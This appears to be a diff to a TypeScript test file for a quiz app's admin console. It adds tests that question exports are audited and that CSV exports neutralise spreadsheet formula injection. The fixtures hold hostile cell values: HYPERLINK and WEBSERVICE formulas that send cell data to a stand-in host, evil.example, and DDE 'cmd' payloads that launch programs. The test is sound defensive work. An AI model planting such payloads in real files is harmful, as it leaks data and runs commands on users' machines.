@@ -1,9 +1,12 @@
+import { parse as parseCsv } from 'csv-parse/sync'
 import { sql } from 'drizzle-orm'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { consoleSession } from '../../../test/console.ts'
 import { testDatabases } from '../../../test/databases.ts'
 import { createTestApp, type TestApp } from '../../../test/harness.ts'
+import { toCsv } from '../../lib/csv.ts'
 import { categorySlugs, parseQuestionFile } from './question-bank.ts'
+import { allQuestions } from './question-editor.repo.ts'
 
 describe.each(testDatabases)('the console question bank on $name', (kind) => {
   let t: TestApp
@@ -113,6 +116,79 @@ describe.each(testDatabases)('the console question bank on $name', (kind) => {
       expect(parsed.problems).toEqual([])
       expect(parsed.rows).toHaveLength(4505)
     }
+
+    // Each download of the bank is audited: who, which format, how many questions.
+    const admin = await consoleSession(t, 'admin@example.com', 'admin')
+    const exports = (await call('GET', '/api/console/audit', undefined, admin))
+      .json()
+      .data.entries.filter((e: { action: string }) => e.action === 'question.export')
+    expect(exports).toEqual([
+      expect.objectContaining({
+        actor: 'editor@example.com',
+        subject: 'questions',
+        after: { format: 'json', questions: 4505 },
+      }),
+      expect.objectContaining({
+        actor: 'editor@example.com',
+        subject: 'questions',
+        after: { format: 'csv', questions: 4505 },
+      }),
+    ])
+    // A refused export (finance is no editor) leaves none.
+    const finance = await consoleSession(t, 'finance@example.com', 'finance')
+    const notEditor = await call('GET', '/api/console/questions/export?format=csv', undefined, finance)
+    expect(notEditor.statusCode).toBe(403)
+    const after = (await call('GET', '/api/console/audit', undefined, admin)).json().data.entries
+    expect(after.filter((e: { action: string }) => e.action === 'question.export')).toHaveLength(2)
+  })
+
+  it('exports formula-looking text so no spreadsheet runs it, and the export imports back unchanged', async () => {
+    // Planted as an operator could: an imported file, and an edit.
+    const planted = [
+      ['=HYPERLINK("http://evil.example/?x="&A1,"ফল দেখুন")', '=1+1', 'সাধারণ', 'অন্য'],
+      ["+cmd|' /C calc'!A0", '+৮৮০', '-5', '-২'],
+      ["-2+3+cmd|' /C notepad'!A0", '@SUM(A1:A9)', '0', "'=already a text mark"],
+      ['@প্রশ্ন, with a comma and "quotes"', "''+two marks", '3.5', '+7'],
+    ]
+    const file = toCsv(
+      ['category', 'question', 'option1', 'option2', 'option3', 'answer'],
+      planted.map(([question, ...options]) => ['sports', question ?? '', ...options.slice(0, 3), 'option2']),
+    )
+    const imported = await call('POST', '/api/console/questions/import', { format: 'csv', text: file })
+    expect(imported.json().data).toEqual({ imported: planted.length, problems: [] })
+    const [edited] = (await list('category=world')).items
+    const edit = {
+      question: '=WEBSERVICE("http://evil.example/"&A2)',
+      option1: '@A1',
+      option2: '-1-1',
+      option3: '+1',
+      correctOption: 1,
+      difficulty: 'easy',
+    }
+    expect((await call('PUT', `/api/console/questions/${edited.id}`, edit)).statusCode).toBe(200)
+
+    const bank = await allQuestions(t.database.db)
+    const texts = bank.flatMap((q) => [q.question, q.option1, q.option2, q.option3])
+    for (const [question, ...options] of planted) {
+      expect(texts).toContain(question)
+      for (const option of options) expect(texts).toContain(option)
+    }
+
+    const exported = await call('GET', '/api/console/questions/export?format=csv')
+    const cells = (parseCsv(exported.body) as string[][]).flat()
+    const runnable = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell))
+    expect(runnable).toEqual([])
+    expect(cells).toContain(`'${planted[0]?.[0]}`)
+    expect(cells).toContain(`'${edit.question}`)
+    expect(cells).toContain("''=already a text mark")
+    // A plain number stays a number for the spreadsheet.
+    expect(cells).toContain('-5')
+    expect(exported.body).toContain(`"'=1+1"`)
+
+    // Every question comes back as it was, the planted ones included.
+    const again = await call('POST', '/api/console/questions/import', { format: 'csv', text: exported.body })
+    expect(again.json().data).toEqual({ imported: bank.length, problems: [] })
+    expect(await allQuestions(t.database.db)).toEqual(bank)
   })
 
   it('adds a category that players can pick and questions can be imported into, once per slug', async () => {
